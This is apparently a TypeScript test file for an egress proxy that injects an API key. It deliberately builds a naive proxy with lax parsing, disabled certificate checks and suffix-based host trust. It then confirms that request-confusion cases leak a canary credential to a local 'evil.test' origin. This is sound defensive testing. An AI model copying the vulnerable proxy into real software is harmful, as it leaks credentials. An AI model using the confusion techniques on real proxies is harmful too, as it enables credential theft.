import { createServer, request as httpRequest, type IncomingMessage } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { createSecureContext, TLSSocket } from 'node:tls';
import { expect, onTestFinished, test } from 'vitest';
import { issueServerIdentity } from '../src/certificate/server.ts';
import { canary } from './canary.ts';
import { CONNECT, HOSTS, SEQUENCES, URIS, type Case } from './egress-confusion-cases.ts';
import { askInside, failing } from './egress-confusion-kit.ts';
import { startOrigin, testAuthority } from './egress-core-kit.ts';

/**
 * The proxy that everybody writes first: TLS ends here for what a CONNECT names, the credential goes on what came through
 * such a tunnel, and the request goes where it says itself. The cases are worth something only if they rob it.
 */
async function startNaive(honest: number, token: string): Promise<number> {
  const identity = await issueServerIdentity(await testAuthority(), ['api.test']);
  const secureContext = createSecureContext({ key: identity.key, cert: identity.certificate });
  const trusted = new WeakSet<Socket>();
  const sockets = new Set<Socket>();
  const server = createServer({ insecureHTTPParser: true, requireHostHeader: false }, (message, response) => {
    const to = whereOf(message, honest);
    const isOurs = trusted.has(message.socket) || (to !== undefined && to.hostname.endsWith('api.test'));
    if (to === undefined) return void response.writeHead(400).end();
    const { host: _, ...headers } = message.headers;
    const ask = to.protocol === 'http:' ? httpRequest : httpsRequest;
    const outgoing = ask(
      {
        host: '127.0.0.1',
        port: to.port === '' ? honest : Number(to.port),
        path: to.pathname,
        rejectUnauthorized: false,
        agent: false,
        headers: { ...headers, host: to.host, ...(isOurs ? { 'x-api-key': token } : {}) },
      },
      (answer) => answer.pipe(response.writeHead(answer.statusCode!)),
    );
    outgoing.on('error', () => response.destroy()).end();
    message.resume();
    return undefined;
  });
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
  });
  server.on('clientError', (_error, socket) => void socket.destroy());
  server.on('connect', (message: IncomingMessage, raw: Socket) => {
    const host = message.url!.split('@').at(-1)!;
    raw.write('HTTP/1.1 200 OK\r\n\r\n');
    raw.once('readable', () => {
      const tls = new TLSSocket(raw, { isServer: true, secureContext });
      tls.on('error', () => raw.destroy());
      if (host.includes('api.test')) trusted.add(tls);
      server.emit('connection', tls);
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => {
    server.close();
    for (const socket of sockets) socket.destroy();
  });
  return (server.address() as AddressInfo).port;
}

/** As a URL parser reads it: an absolute URI, else the Host field. */
function whereOf({ url, headers }: IncomingMessage, honest: number): URL | undefined {
  try {
    return new URL(url!, `https://${headers.host ?? `api.test:${honest}`}`);
  } catch {
    return undefined;
  }
}

test('a proxy without the checks loses the credential on dozens of the cases', async () => {
  const honest = await startOrigin(['api.test']);
  const evil = await startOrigin(['evil.test', 'api.test']);
  const token = canary();
  const port = await startNaive(honest.port, token);
  const authority = `api.test:${honest.port}`;
  const tunnel = { port, authority, ca: (await testAuthority()).certificate };
  const fill = (text: string): string =>
    text.replaceAll('{A}', authority).replaceAll('{H}', String(honest.port)).replaceAll('{E}', String(evil.port));
  /** Cases after which an upstream other than the service's own had the credential, or the own one under another name. */
  async function stolen(cases: readonly Case[], run: (text: string) => Promise<string>): Promise<number> {
    const lost = (): number =>
      evil.requests.filter(({ headers }) => headers['x-api-key'] === token).length +
      honest.requests.filter(({ headers }) => headers['x-api-key'] === token && headers.host !== authority).length;
    const before = lost();
    await failing(
      cases,
      ([text]) => run(fill(text)),
      () => true,
    );
    return lost() - before;
  }
  const close = 'Connection: close\r\n\r\n';
  expect(await stolen(HOSTS, (head) => askInside(tunnel, `${head}\r\n${close}`))).toBeGreaterThanOrEqual(12);
  const uri = (target: string): string => `GET ${target} HTTP/1.1\r\nHost: ${authority}\r\n${close}`;
  expect(await stolen(URIS, (target) => askInside(tunnel, uri(target)))).toBeGreaterThanOrEqual(8);
  expect(await stolen(SEQUENCES.slice(0, 3), (text) => askInside(tunnel, text))).toBeGreaterThanOrEqual(3);
  const get = `GET / HTTP/1.1\r\nHost: evil.test:${evil.port}\r\n${close}`;
  const opened = (target: string): Promise<string> =>
    askInside({ ...tunnel, authority: target, servername: 'api.test' }, get);
  expect(await stolen(CONNECT.slice(0, 30), opened)).toBeGreaterThanOrEqual(5);
}, 60_000);
